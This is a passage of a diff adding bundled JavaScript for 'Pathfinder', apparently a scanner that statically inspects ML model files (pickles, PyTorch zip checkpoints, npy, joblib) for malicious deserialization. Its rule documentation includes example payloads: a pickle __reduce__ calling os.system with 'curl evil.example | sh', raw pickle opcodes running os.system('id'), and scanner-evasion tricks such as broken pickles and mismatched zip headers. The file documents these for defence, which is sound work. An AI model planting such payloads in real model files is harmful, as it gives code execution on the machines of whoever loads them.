+  for (let i2 = 0; i2 < 8; i2++) {
+    out2[5 + i2] = size < 0 ? 255 : size % 256;
+    if (size >= 0) size = Math.floor(size / 256);
+  }
+  out2.set(member.subarray(9), 13);
+  return out2;
+}
+async function readZipDirectory(source, options) {
+  const warnings = [];
+  const eocd = await findEocd(source, warnings);
+  if (!eocd) return null;
+  const delta = await locateCentralDirectory(source, eocd);
+  if (delta === null) {
+    warnings.push("zip central directory not found where the end record points; walking local headers instead");
+    const walked = await walkLocalHeaders(source, 0, options);
+    walked.warnings.unshift(...warnings);
+    return walked;
+  }
+  const cdStart = eocd.cdOffset + delta;
+  let cdSize = Math.min(eocd.cdSize, source.size - cdStart);
+  if (cdSize > MAX_CENTRAL_DIRECTORY) {
+    warnings.push(`zip central directory of ${eocd.cdSize} bytes exceeds ${MAX_CENTRAL_DIRECTORY}; reading its start only`);
+    cdSize = MAX_CENTRAL_DIRECTORY;
+  }
+  const cd = await readRange(source, cdStart, cdSize);
+  const directory = { entries: [], archiveStart: delta, fromCentralDirectory: true, warnings, tricks: [] };
+  let at = 0;
+  while (at + 46 <= cd.length && startsWith(cd, CENTRAL_SIG, at)) {
+    if (directory.entries.length >= options.maxEntries) {
+      warnings.push(`zip has more than ${options.maxEntries} entries; the rest were not inspected`);
+      break;
+    }
+    const nameLength = u16le(cd, at + 28);
+    const extraLength = u16le(cd, at + 30);
+    const commentLength = u16le(cd, at + 32);
+    const end = at + 46 + nameLength + extraLength + commentLength;
+    if (end > cd.length) {
+      warnings.push("zip central directory is truncated");
+      break;
+    }
+    const name2 = utf8(cd.subarray(at + 46, at + 46 + nameLength));
+    let compressedSize = u32le(cd, at + 20);
+    let uncompressedSize = u32le(cd, at + 24);
+    let localHeaderOffset = u32le(cd, at + 42);
+    const extra = cd.subarray(at + 46 + nameLength, at + 46 + nameLength + extraLength);
+    const wide = readZip64Extra(extra, {
+      uncompressed: uncompressedSize === 4294967295,
+      compressed: compressedSize === 4294967295,
+      offset: localHeaderOffset === 4294967295
+    });
+    uncompressedSize = wide.uncompressed ?? uncompressedSize;
+    compressedSize = wide.compressed ?? compressedSize;
+    localHeaderOffset = (wide.offset ?? localHeaderOffset) + delta;
+    const entry = {
+      name: name2,
+      method: u16le(cd, at + 10),
+      compressedSize,
+      uncompressedSize,
+      localHeaderOffset,
+      dataOffset: -1
+    };
+    await attachLocalHeader(source, entry, directory);
+    directory.entries.push(entry);
+    at = end;
+  }
+  if (directory.entries.length < eocd.entries && directory.entries.length < options.maxEntries) {
+    warnings.push(`zip end record announces ${eocd.entries} entries, central directory holds ${directory.entries.length}`);
+  }
+  flagDuplicateNames(directory);
+  return directory;
+}
+async function findEocd(source, warnings) {
+  const tailStart = Math.max(0, source.size - EOCD_SEARCH);
+  const tail = await readRange(source, tailStart, source.size - tailStart);
+  let candidate = lastIndexOf(tail, EOCD_SIG);
+  let fallback = -1;
+  while (candidate >= 0) {
+    if (candidate + 22 <= tail.length) {
+      if (candidate + 22 + u16le(tail, candidate + 20) === tail.length) break;
+      if (fallback < 0) fallback = candidate;
+    }
+    candidate = lastIndexOf(tail, EOCD_SIG, candidate - 1);
+  }
+  if (candidate < 0) candidate = fallback;
+  if (candidate < 0) return null;
+  const position = tailStart + candidate;
+  const eocd = {
+    position,
+    entries: u16le(tail, candidate + 10),
+    cdSize: u32le(tail, candidate + 12),
+    cdOffset: u32le(tail, candidate + 16),
+    recordPosition: position
+  };
+  if (candidate >= 20 && startsWith(tail, ZIP64_LOCATOR_SIG, candidate - 20)) {
+    const claimed = u64le(tail, candidate - 20 + 8);
+    const guesses = [claimed, position - 20 - 56].filter((p) => Number.isFinite(p) && p >= 0 && p + 56 <= source.size);
+    for (const at of guesses) {
+      const record = await readRange(source, at, 56);
+      if (!startsWith(record, ZIP64_EOCD_SIG)) continue;
+      eocd.entries = u64le(record, 32);
+      eocd.cdSize = u64le(record, 40);
+      eocd.cdOffset = u64le(record, 48);
+      eocd.recordPosition = at;
+      break;
+    }
+    if (eocd.recordPosition === position) warnings.push("zip64 locator present but its end record was not found");
+  }
+  return eocd;
+}
+async function locateCentralDirectory(source, eocd) {
+  const shifted = eocd.recordPosition - eocd.cdSize - eocd.cdOffset;
+  const candidates = [shifted, 0].filter((d, i2, all) => all.indexOf(d) === i2);
+  for (const delta of candidates) {
+    const at = eocd.cdOffset + delta;
+    if (!Number.isFinite(at) || at < 0 || at + 4 > source.size) continue;
+    if (eocd.cdSize === 0 && eocd.entries === 0) return delta;
+    if (startsWith(await readRange(source, at, 4), CENTRAL_SIG)) return delta;
+  }
+  return null;
+}
+function readZip64Extra(extra, need) {
+  for (let at = 0; at + 4 <= extra.length; ) {
+    const id = u16le(extra, at);
+    const size = u16le(extra, at + 2);
+    const body2 = extra.subarray(at + 4, Math.min(extra.length, at + 4 + size));
+    if (id === 1) {
+      const out2 = {};
+      let p = 0;
+      for (const field of ["uncompressed", "compressed", "offset"]) {
+        if (!need[field]) continue;
+        if (p + 8 > body2.length) break;
+        out2[field] = u64le(body2, p);
+        p += 8;
+      }
+      return out2;
+    }
+    at += 4 + size;
+  }
+  return {};
+}
+async function attachLocalHeader(source, entry, directory) {
+  const at = entry.localHeaderOffset;
+  if (!Number.isFinite(at) || at < 0 || at + 30 > source.size) {
+    directory.warnings.push(`zip member ${entry.name}: local header offset ${at} is outside the file`);
+    return;
+  }
+  const head = await readRange(source, at, 30);
+  if (!startsWith(head, LOCAL_SIG)) {
+    directory.warnings.push(`zip member ${entry.name}: no local header at offset ${at}`);
+    return;
+  }
+  const nameLength = u16le(head, 26);
+  const extraLength = u16le(head, 28);
+  entry.localName = utf8(await readRange(source, at + 30, nameLength));
+  entry.dataOffset = at + 30 + nameLength + extraLength;
+  if (entry.localName !== entry.name) {
+    directory.tricks.push({
+      member: entry.name,
+      message: `zip member named "${entry.name}" in the central directory but "${entry.localName}" in its local header`
+    });
+  }
+  const localMethod = u16le(head, 8);
+  if (localMethod !== entry.method) {
+    directory.tricks.push({
+      member: entry.name,
+      message: `zip member ${entry.name}: compression method ${entry.method} in the central directory but ${localMethod} locally`
+    });
+  }
+}
+function flagDuplicateNames(directory) {
+  const seen = /* @__PURE__ */ new Set();
+  for (const entry of directory.entries) {
+    if (seen.has(entry.name)) {
+      directory.tricks.push({ member: entry.name, message: `zip holds more than one member named "${entry.name}"` });
+    }
+    seen.add(entry.name);
+  }
+}
+async function walkLocalHeaders(source, start2, options) {
+  const directory = { entries: [], archiveStart: start2, fromCentralDirectory: false, warnings: [], tricks: [] };
+  let at = start2;
+  while (at + 30 <= source.size) {
+    const head = await readRange(source, at, 30);
+    if (!startsWith(head, LOCAL_SIG)) break;
+    if (directory.entries.length >= options.maxEntries) {
+      directory.warnings.push(`zip has more than ${options.maxEntries} entries; the rest were not inspected`);
+      break;
+    }
+    const nameLength = u16le(head, 26);
+    const extraLength = u16le(head, 28);
+    const name2 = utf8(await readRange(source, at + 30, nameLength));
+    const extra = await readRange(source, at + 30 + nameLength, extraLength);
+    let compressedSize = u32le(head, 18);
+    let uncompressedSize = u32le(head, 22);
+    const wide = readZip64Extra(extra, {
+      uncompressed: uncompressedSize === 4294967295,
+      compressed: compressedSize === 4294967295,
+      offset: false
+    });
+    compressedSize = wide.compressed ?? compressedSize;
+    uncompressedSize = wide.uncompressed ?? uncompressedSize;
+    const dataOffset = at + 30 + nameLength + extraLength;
+    const hasDescriptor = (u16le(head, 6) & 8) !== 0;
+    let next;
+    if (hasDescriptor && compressedSize === 0) {
+      const end = await findNextSignature(source, dataOffset);
+      compressedSize = end - dataOffset;
+      next = end;
+      if (startsWith(await readRange(source, end, 4), DESCRIPTOR_SIG)) next = end + 16;
+    } else {
+      next = dataOffset + compressedSize;
+    }
+    if (dataOffset + compressedSize > source.size) {
+      directory.warnings.push(`zip member ${name2} is truncated`);
+      compressedSize = Math.max(0, source.size - dataOffset);
+    }
+    directory.entries.push({
+      name: name2,
+      localName: name2,
+      method: u16le(head, 8),
+      compressedSize,
+      uncompressedSize,
+      localHeaderOffset: at,
+      dataOffset
+    });
+    if (!(next > at)) break;
+    at = next;
+  }
+  if (directory.entries.length > 0) {
+    directory.warnings.push("zip end-of-central-directory record missing or unusable; members found by walking local headers");
+  }
+  flagDuplicateNames(directory);
+  return directory;
+}
+async function findNextSignature(source, from) {
+  for (let at = from; at < source.size; at += SCAN_CHUNK - 3) {
+    const chunk = await readRange(source, at, SCAN_CHUNK);
+    const hits = [LOCAL_SIG, CENTRAL_SIG, DESCRIPTOR_SIG].map((sig) => indexOf(chunk, sig)).filter((hit) => hit >= 0);
+    if (hits.length > 0) return at + Math.min(...hits);
+    if (chunk.length < SCAN_CHUNK) break;
+  }
+  return source.size;
+}
+
+// src/artifacts/rules.ts
+var COMPLIANCE = [
+  { framework: "OWASP Top 10 2021", control: "A08:2021 Software and Data Integrity Failures" },
+  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
+  { framework: "NIST SP 800-53 Rev. 5", control: "SI-7 Software, Firmware, and Information Integrity" },
+  { framework: "NIST SP 800-218 (SSDF)", control: "PW.4.1 Acquire and maintain well-secured components" },
+  { framework: "PCI DSS 4.0", control: "6.2.4 Software engineering techniques prevent common attacks" }
+];
+var REFERENCES = [
+  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
+  { title: "OWASP A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
+  { title: "Python docs: pickle, Restricting Globals", url: "https://docs.python.org/3/library/pickle.html#restricting-globals" },
+  { title: "PyTorch docs: torch.load and weights_only", url: "https://pytorch.org/docs/stable/generated/torch.load.html" },
+  { title: "Hugging Face: Pickle scanning", url: "https://huggingface.co/docs/hub/security-pickle" },
+  { title: "safetensors", url: "https://github.com/huggingface/safetensors" }
+];
+var SAFE_EXAMPLE = [
+  "# Load tensors only: weights_only refuses every global outside PyTorch's allowlist",
+  'state = torch.load("model.pt", weights_only=True)',
+  "",
+  "# Better: a format that cannot run code",
+  "from safetensors.torch import load_file",
+  'state = load_file("model.safetensors")'
+].join("\n");
+var COMMON_FAQ = [
+  {
+    question: "Does Pathfinder load or unpickle the file?",
+    answer: "No. It reads the bytes and interprets pickle opcodes symbolically; nothing is imported or executed, and tensor data is skipped without being read."
+  },
+  {
+    question: "The file is named .pt/.bin/.npy; why is it treated as a zip, tar or pickle?",
+    answer: "Loaders decide by content, not by name, so Pathfinder does too. The extension is only a hint for which files to look at."
+  }
+];
+var SCOPE = "Raw pickles (protocols 0-5, stacked streams), zip archives read through our own central-directory parser (zip64, prepended data, missing end record, name mismatches, stored/deflate/bzip2/LZMA members, every member that parses as a pickle), PyTorch zip checkpoints (`*/data.pkl`, tensor members skipped), legacy PyTorch stacked and tar checkpoints, .npy/.npz object arrays, joblib files (zlib/gzip/bz2/xz/lzma compression, inline array bytes skipped by declared size, object-array pickles), and gzip/bz2/xz/lzma-wrapped pickles. Large inline byte strings and tensor data are skipped by their declared sizes, so multi-GB files are never read whole; decompression is bounded by `maxDecompressedBytes`. 7z, RAR, zstd and LZ4 archives (and zip members compressed with other methods) are reported as uninspectable.";
+function artifactRule(meta) {
+  return {
+    id: meta.id,
+    name: meta.name,
+    language: "artifact",
+    severity: meta.severity,
+    confidence: meta.confidence,
+    precision: meta.precision,
+    cwe: ["CWE-502"],
+    owasp: ["A08:2021"],
+    compliance: COMPLIANCE,
+    tags: ["pickle", "deserialization", "artifact", "ml", "supply-chain", ...meta.tags],
+    bundles: ["artifacts"],
+    banditIds: [],
+    similar: meta.similar,
+    docs: {
+      ...meta.docs,
+      safeExample: meta.docs.safeExample ?? SAFE_EXAMPLE,
+      detectionScope: SCOPE,
+      references: REFERENCES,
+      faq: [...meta.docs.faq ?? [], ...COMMON_FAQ]
+    }
+  };
+}
+var PICKLE_ARTIFACT_DANGEROUS_CALL = artifactRule({
+  id: "PICKLE-ARTIFACT-001",
+  name: "Pickle Artifact Calls a Dangerous Global",
+  severity: "critical",
+  confidence: "high",
+  precision: "very-high",
+  tags: ["code-execution"],
+  similar: ["PICKLE-ARTIFACT-002", "PICKLE-ARTIFACT-003"],
+  docs: {
+    summary: "A pickle inside this file calls a function that can run code, spawn processes or touch files when it is loaded.",
+    description: "Unpickling executes the opcodes in the file. `REDUCE`, `NEWOBJ`, `OBJ`, `INST` and `BUILD` call whatever global the pickle imported, with arguments the pickle chose. This file calls a global on the denylist (for example `os.system`, `subprocess.Popen`, `builtins.exec`, `builtins.eval`, `runpy._run_code`), so loading it with `pickle.load`, `torch.load(weights_only=False)`, `joblib.load` or `np.load(allow_pickle=True)` runs that call.",
+    securityImplications: "Arbitrary code execution with the privileges of whoever loads the file: credential theft, lateral movement from training or inference hosts, tampered models. This is the classic malicious-model supply-chain attack.",
+    howToFix: "Do not load the file. Obtain the artifact from a trusted source and verify it (hash or signature). Convert models to safetensors or ONNX, load PyTorch checkpoints with `weights_only=True`, and keep `allow_pickle=False` for NumPy.",
+    fixHint: "Do not load this file; re-export it as safetensors, or load with torch.load(..., weights_only=True).",
+    vulnerableExample: [
+      "class Payload:",
+      "    def __reduce__(self):",
+      '        return (os.system, ("curl evil.example | sh",))',
+      "",
+      'torch.save({"model": Payload()}, "model.pt")   # loading model.pt runs the command'
+    ].join("\n"),
+    faq: [
+      {
+        question: "Could the call be harmless?",
+        answer: "Only if the arguments are; the policy flags the capability. A legitimate model never needs to call os.system or exec."
+      }
+    ]
+  }
+});
+var PICKLE_ARTIFACT_DANGEROUS_IMPORT = artifactRule({
+  id: "PICKLE-ARTIFACT-002",
+  name: "Pickle Artifact Imports a Dangerous Global",
+  severity: "high",
+  confidence: "medium",
+  precision: "high",
+  tags: ["code-execution"],
+  similar: ["PICKLE-ARTIFACT-001"],
+  docs: {
+    summary: "A pickle inside this file imports a dangerous global without visibly calling it.",
+    description: "`GLOBAL`/`STACK_GLOBAL` import any attribute of any module while loading. A denylisted global (for example `os.system` or `builtins.getattr`) is referenced here although no direct call was seen; it may be called indirectly (through a memo, a container or a later `BUILD`), which symbolic analysis cannot always follow.",
+    securityImplications: "Importing a module can itself run code (module import side effects), and an imported callable is one opcode away from being invoked. Treat the file as untrusted.",
+    howToFix: "Do not load the file from untrusted sources. Re-create the artifact from trusted code, or load it with a restricted unpickler (`find_class` allowlist) or `torch.load(weights_only=True)`.",
+    fixHint: "Treat the file as untrusted; load it only with an allowlisting unpickler.",
+    vulnerableExample: ["# protocol 0 pickle that imports os.system", "cos\\nsystem\\n(S'id'\\ntR."].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_DYNAMIC_GLOBAL = artifactRule({
+  id: "PICKLE-ARTIFACT-003",
+  name: "Pickle Artifact Uses an Unresolvable or Self-Modifying Global",
+  severity: "critical",
+  confidence: "medium",
+  precision: "high",
+  tags: ["obfuscation", "code-execution"],
+  similar: ["PICKLE-ARTIFACT-001"],
+  docs: {
+    summary: "A pickle builds the name of the global it imports at load time, uses the copyreg extension registry, or rewrites a module.",
+    description: "`STACK_GLOBAL` with operands that are not constant strings (for example the result of a call), `EXT1/EXT2/EXT4` codes resolved through the process's copyreg registry, and `BUILD` applied to a module or function object (overwriting its attributes) all hide what will really run. Scanners that match names cannot see through them, which is why attackers use them.",
+    securityImplications: "The real target cannot be known statically; legitimate serializers never produce these shapes in model files, so they indicate an attempt to evade scanning and execute code.",
+    howToFix: "Do not load the file. Regenerate the artifact from trusted code and store weights in safetensors.",
+    fixHint: "Obfuscated pickle: do not load it.",
+    vulnerableExample: [
+      "# STACK_GLOBAL whose module name is computed by a call",
+      "\\x80\\x04 ... builtins getattr ... REDUCE ... STACK_GLOBAL ... REDUCE"
+    ].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_UNKNOWN_GLOBAL = artifactRule({
+  id: "PICKLE-ARTIFACT-004",
+  name: "Pickle Artifact References a Global Outside the Allowlist",
+  severity: "medium",
+  confidence: "medium",
+  precision: "medium",
+  tags: ["allowlist", "policy"],
+  similar: ["PICKLE-ARTIFACT-002"],
+  docs: {
+    summary: "In allowlist mode, a pickle references a global that is neither built in to the allowlist nor allowed by configuration.",
+    description: "The allowlist policy accepts only globals a tensor/array checkpoint needs (PyTorch's weights-only set, NumPy array reconstruction, plain containers) plus `--pickle-allow` entries. Anything else is reported so that a reviewer decides whether it is expected.",
+    securityImplications: "An unexpected class can run code through its `__reduce__`, `__setstate__` or constructor. Unknown is not proven malicious, but it widens what loading the file can do.",
+    howToFix: "If the class is expected and trusted, allow it (`--pickle-allow module.Name`, or `module.*`). Otherwise remove it from the artifact, e.g. save only a `state_dict` of tensors.",
+    fixHint: "Review the global; allow it with --pickle-allow if trusted, or save only tensors.",
+    vulnerableExample: ['torch.save(MyModel(), "model.pt")   # pickles mypackage.models.MyModel'].join("\n"),
+    safeExample: ['torch.save(model.state_dict(), "model.pt")   # tensors and OrderedDict only'].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_MALFORMED = artifactRule({
+  id: "PICKLE-ARTIFACT-005",
+  name: "Malformed Pickle After Importing Globals",
+  severity: "high",
+  confidence: "medium",
+  precision: "medium",
+  tags: ["evasion"],
+  similar: ["PICKLE-ARTIFACT-006"],
+  docs: {
+    summary: "A pickle imports globals and then breaks (bad opcode, truncated data, stack misuse).",
+    description: "Python's unpickler executes opcodes as it reads them, so everything before the error has already run when the load fails. Some scanners give up on a parse error and report the file as clean; attackers exploit that by appending garbage after the payload (the 'broken pickle' trick).",
+    securityImplications: "The payload before the break executes on load even though the load ultimately raises an exception.",
+    howToFix: "Do not load the file. A legitimate serializer never writes a malformed stream.",
+    fixHint: "Broken pickle with globals: do not load it.",
+    vulnerableExample: ["cos\\nsystem\\n(S'id'\\ntR\\xff\\xff  # payload, then invalid opcodes"].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_CONTAINER_TRICK = artifactRule({
+  id: "PICKLE-ARTIFACT-006",
+  name: "Artifact Container Is Inconsistent",
+  severity: "high",
+  confidence: "high",
+  precision: "high",
+  tags: ["evasion", "zip"],
+  similar: ["PICKLE-ARTIFACT-005"],
+  docs: {
+    summary: "The archive's own metadata disagrees with itself (zip central vs local names or methods, duplicate member names).",
+    description: "Zip readers differ in which header they trust: some use the central directory, some stream local headers, and duplicate names resolve to the first or the last entry. A member named `data.pkl` in one place and something harmless in another lets a malicious pickle pass a scanner that reads one view while the loader reads the other.",
+    securityImplications: "A benign-looking archive can carry a payload that only some readers see; it indicates deliberate scanner evasion.",
+    howToFix: "Reject the file and re-create the archive with a standard tool (e.g. `torch.save`, `zipfile`).",
+    fixHint: "Inconsistent archive metadata: re-create the archive from trusted sources.",
+    vulnerableExample: [
+      "# central directory: archive/data.pkl   local header: archive/version",
+      "# both point at a pickle that calls os.system"
+    ].join("\n")
+  }
+});
+var PICKLE_ARTIFACT_UNINSPECTABLE = artifactRule({
+  id: "PICKLE-ARTIFACT-007",
+  name: "Artifact Archive Cannot Be Inspected",
+  severity: "medium",
+  confidence: "low",
+  precision: "low",
+  tags: ["coverage"],
+  similar: [],
+  docs: {
+    summary: "The file is an archive format (7z, RAR, zstd, LZ4, or an unsupported zip method) that Pathfinder cannot look inside.",
+    description: "Models are sometimes shipped inside archives that are extracted before loading. Pathfinder reads zip, tar, gzip, bzip2, xz and lzma itself; for other formats it cannot tell whether a pickle is inside, so it says so instead of reporting the file as clean.",
+    securityImplications: "Contents are unverified: a malicious pickle inside would not be detected.",
+    howToFix: "Extract the archive and scan the extracted files, or ship the artifact as zip/tar or safetensors.",
+    fixHint: "Extract the archive and scan its contents.",
+    vulnerableExample: ["model.7z  ->  model.pkl (not inspected)"].join("\n"),
+    safeExample: ["pathfinder scan extracted/   # scan the unpacked files instead"].join("\n")
+  }
+});
+var ARTIFACT_RULES = [
+  PICKLE_ARTIFACT_DANGEROUS_CALL,
+  PICKLE_ARTIFACT_DANGEROUS_IMPORT,
+  PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
+  PICKLE_ARTIFACT_MALFORMED,
+  PICKLE_ARTIFACT_CONTAINER_TRICK,
+  PICKLE_ARTIFACT_UNINSPECTABLE
+];
+var RULE_BY_KIND = {
+  "dangerous-call": PICKLE_ARTIFACT_DANGEROUS_CALL,
+  "dangerous-import": PICKLE_ARTIFACT_DANGEROUS_IMPORT,
+  "dynamic-global": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  "extension-code": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  "module-mutation": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
+  "unknown-global": PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
+  malformed: PICKLE_ARTIFACT_MALFORMED,
+  "container-mismatch": PICKLE_ARTIFACT_CONTAINER_TRICK,
+  uninspectable: PICKLE_ARTIFACT_UNINSPECTABLE
+};
+function ruleForIssue(issue) {
+  if (issue.kind !== "nested-pickle") return RULE_BY_KIND[issue.kind];
+  if (issue.severity === "critical") return PICKLE_ARTIFACT_DANGEROUS_CALL;
+  if (issue.severity === "high") return PICKLE_ARTIFACT_DANGEROUS_IMPORT;
+  return PICKLE_ARTIFACT_UNKNOWN_GLOBAL;
+}
+
+// src/artifacts/scan.ts
+var HEAD_BYTES = 64 * 1024 + 1;
+var MAX_ZIP_ENTRIES = 1e5;
+var MAX_TAR_ENTRIES = 1e5;
+var MAX_STACKED_PICKLES = 64;
+var MAX_WORK_ITEMS = 1e4;
+var TORCH_PICKLE = /(^|\/)data\.pkl$/;
+var TORCH_TENSOR = /(^|\/)data\/\d+$/;
+function expectsPickle(name2) {
+  return TORCH_PICKLE.test(name2) || /\.(pkl|pickle)$/i.test(name2);
+}
+var LEGACY_TAR_MEMBERS = /* @__PURE__ */ new Set(["sys_info", "pickle", "storages", "tensors"]);
+var ZIP_METHODS = /* @__PURE__ */ new Map([
+  [METHOD_STORED, "stored"],
+  [METHOD_DEFLATE, "deflate"],
+  [METHOD_BZIP2, "bz2"],
+  [METHOD_LZMA, "lzma"]
+]);
+async function scanArtifact(source, relPath, options = {}) {
+  const scan = new ArtifactScan(relPath, {
+    ...DEFAULT_PICKLE_OPTIONS,
+    ...options,
+    limits: { ...DEFAULT_PICKLE_OPTIONS.limits, ...options.limits }
+  });
+  await scan.run(source);
+  return scan.result();
+}
+var ArtifactScan = class {
+  constructor(relPath, options) {
+    this.relPath = relPath;
+    this.options = options;
+    this.budget = options.limits.maxDecompressedBytes;
+  }
+  relPath;
+  options;
+  layout = [];
+  analyses = [];
+  errors = [];
+  issues = [];
+  queue = [];
+  traits = /* @__PURE__ */ new Set();
+  baseKind = "unknown";
+  budget;
+  budgetWarned = false;
+  async run(source) {
+    this.queue.push({ source, origin: 0, depth: 0 });
+    let processed = 0;
+    while (this.queue.length > 0) {
+      const item = this.queue.shift();
+      if (++processed > MAX_WORK_ITEMS) {
+        this.warn(`more than ${MAX_WORK_ITEMS} nested pieces; the rest were not inspected`);
+        break;
+      }
+      try {
+        await this.inspect(item);
+      } catch (error) {
+        this.warn(`could not inspect: ${error instanceof Error ? error.message : String(error)}`, item.member);
+      }
+    }
+  }
+  result() {
+    return {
+      kind: this.kind(),
+      layout: this.layout,
+      analyses: this.analyses,
+      findings: this.findings(),
+      errors: this.errors
+    };
+  }
+  kind() {
+    if (this.traits.has("torch-legacy")) return "torch-legacy";
+    if (this.traits.has("joblib")) return "joblib";
+    if (this.baseKind === "zip" && this.traits.has("torch-zip")) return "torch-zip";
+    if (this.baseKind === "zip" && this.traits.has("npz")) return "npz";
+    if (this.baseKind === "pickle" && this.traits.has("zip")) return "pickle+zip";
+    return this.baseKind;
+  }
+  warn(message15, member) {
+    this.errors.push({
+      file: this.relPath,
+      kind: "artifact",
+      message: member ? `${member}: ${message15}` : message15,
+      level: "warning"
+    });
+  }
+  addIssue(issue, member, baseOffset, from) {
+    this.issues.push({ issue, ...member !== void 0 ? { member } : {}, baseOffset, ...from ? { from } : {} });
+  }
+  async inspect(item) {
+    if (item.depth > this.options.limits.maxNesting) {
+      this.warn(`containers nested deeper than ${this.options.limits.maxNesting}; not inspected`, item.member);
+      return;
+    }
+    const head = await readRange(item.source, 0, HEAD_BYTES);
+    if (head.length === 0) {
+      if (item.depth === 0) this.warn("file is empty");
+      return;
+    }
+    const format = sniffFormat(head);
+    const pickleLike = format === "unknown" && (item.expectPickle === true || looksLikePickle(head));
+    if (item.depth === 0) this.baseKind = pickleLike ? "pickle" : format;
+    switch (format) {
+      case "npy":
+        return this.inspectNpy(item);
+      case "zip":
+        await this.inspectZip(item, 0);
+        return;
+      case "tar":
+        return this.inspectTar(item);
+      case "gzip":
+      case "zlib":
+      case "bz2":
+      case "xz":
+      case "lzma":
+        return this.inspectCompressed(item, format, item.source);
+      case "joblib-zfile":
+        this.traits.add("joblib");
+        return this.inspectCompressed(item, "zlib", sliceSource(item.source, 21, item.source.size - 21));
+      case "7z":
+      case "rar":
+      case "zstd":
+      case "lz4":
+        return this.uninspectable(item, format);
+      case "unknown":
+        if (pickleLike) return this.inspectPickles(item);
+        if (await this.inspectZip(item, -1)) return;
+        if (item.depth === 0) this.warn("content is not a pickle or a known container; not inspected");
+    }
+  }
+  uninspectable(item, format) {
+    this.layout.push({
+      name: item.member ?? `[${format}]`,
+      container: format,
+      offset: item.origin,
+      size: item.source.size,
+      compressedSize: item.source.size,
+      method: format,
+      role: "other"
+    });
+    this.addIssue(
+      {
+        kind: "uninspectable",
+        severity: "medium",
+        message: `${format} archive: Pathfinder cannot inspect its contents, which may include pickles`
+      },
+      item.member,
+      item.origin
+    );
+  }
+  // ---- compression -------------------------------------------------------------------------------
+  async decompressBounded(format, input, member, want) {
+    const result2 = await decompress(format, input, {
+      limit: Math.max(0, this.budget),
+      ...want !== void 0 ? { want } : {}
+    });
+    if (want === void 0 || result2.limitReached) this.budget -= result2.bytes.length;
+    if (result2.limitReached && !this.budgetWarned) {
+      this.budgetWarned = true;
+      this.warn(
+        `decompression stopped at the ${this.options.limits.maxDecompressedBytes}-byte limit (possible zip bomb); the rest was not inspected`,
+        member
+      );
+    }
+    if (result2.error) this.warn(`${format} data is corrupt or truncated: ${result2.error}`, member);
+    return result2;
+  }
+  async inspectCompressed(item, format, input) {
+    const label = `${item.member ?? ""}[${format}]`;
+    if (this.budget <= 0) {
+      this.warn("decompression limit already reached; not inspected", label);
+      return;
+    }
+    const head = await this.decompressBounded(format, input, label, HEAD_BYTES);
+    const pickle = item.expectPickle === true || looksLikePickle(head.bytes);
+    const row = {
+      name: label,
+      container: format,
+      offset: item.origin,
+      size: head.bytes.length,
+      compressedSize: input.size,
+      method: format,
+      role: pickle ? "pickle" : "other"
+    };
+    this.layout.push(row);
+    if (!pickle && sniffFormat(head.bytes) === "unknown") return;
+    const complete = head.bytes.length < HEAD_BYTES || head.error !== void 0 || head.limitReached;
+    const result2 = complete ? head : await this.decompressBounded(format, input, label);
+    row.size = result2.bytes.length;
+    if (result2.bytes.length === 0) return;
+    this.queue.push({ source: memorySource(result2.bytes), member: label, origin: 0, depth: item.depth + 1 });
+  }
+  // ---- .npy --------------------------------------------------------------------------------------
+  async inspectNpy(item) {
+    const parsed = await readNpyHeader(item.source);
+    if (!parsed.ok) {
+      this.warn(parsed.error, item.member);
+      return;
+    }
+    const { header } = parsed;
+    const bodySize = item.source.size - header.dataOffset;
+    this.layout.push({
+      name: `${item.member ?? ""}[npy ${header.descr} ${JSON.stringify(header.shape)}]`,
+      container: "npy",
+      offset: item.origin + header.dataOffset,
+      size: bodySize,
+      compressedSize: bodySize,
+      method: "raw",
+      role: header.hasObject ? "pickle" : "tensor-data"
+    });
+    if (!header.hasObject) return;
+    this.queue.push({
+      source: sliceSource(item.source, header.dataOffset, bodySize),
+      ...item.member !== void 0 ? { member: item.member } : {},
+      origin: item.origin + header.dataOffset,
+      depth: item.depth + 1,
+      expectPickle: true
+    });
+  }
+  // ---- zip ---------------------------------------------------------------------------------------
+  /** `start` >= 0: the caller saw a local header there; -1: only look for an end record. */
+  async inspectZip(item, start2) {
+    let directory = await readZipDirectory(item.source, { maxEntries: MAX_ZIP_ENTRIES });
+    if (!directory && start2 >= 0) directory = await walkLocalHeaders(item.source, start2, { maxEntries: MAX_ZIP_ENTRIES });
+    if (!directory || directory.entries.length === 0 && !directory.fromCentralDirectory) return false;
+    if (item.depth === 0 && this.baseKind === "unknown") this.baseKind = "zip";
+    this.traits.add("zip");
+    if (directory.archiveStart > 0 && this.baseKind !== "pickle") {
+      this.warn(`zip archive starts at offset ${directory.archiveStart}: data was prepended to it`, item.member);
+    }
+    for (const warning of directory.warnings) this.warn(warning, item.member);
+    for (const trick of directory.tricks) {
+      this.addIssue(
+        { kind: "container-mismatch", severity: "high", message: trick.message },
+        join(item.member, trick.member),
+        0
+      );
+    }
+    const isTorch = directory.entries.some((e) => TORCH_PICKLE.test(e.name));
+    if (isTorch) this.traits.add("torch-zip");
+    if (directory.entries.length > 0 && directory.entries.every((e) => e.name.endsWith(".npy"))) this.traits.add("npz");
+    for (const entry of directory.entries) {
+      const member = join(item.member, entry.name);
+      const method = ZIP_METHODS.get(entry.method) ?? `method ${entry.method}`;
+      const row = {
+        name: member,
+        container: "zip",
+        offset: entry.dataOffset,
+        size: entry.uncompressedSize,
+        compressedSize: entry.compressedSize,
+        method,
+        role: "other"
+      };
+      this.layout.push(row);
+      if (entry.dataOffset < 0) continue;
+      if (isTorch && TORCH_TENSOR.test(entry.name)) {
+        row.role = "tensor-data";
+        continue;
+      }
+      let compressed = sliceSource(item.source, entry.dataOffset, entry.compressedSize);
+      let head;
+      let codec = null;
+      if (entry.method === METHOD_LZMA) {
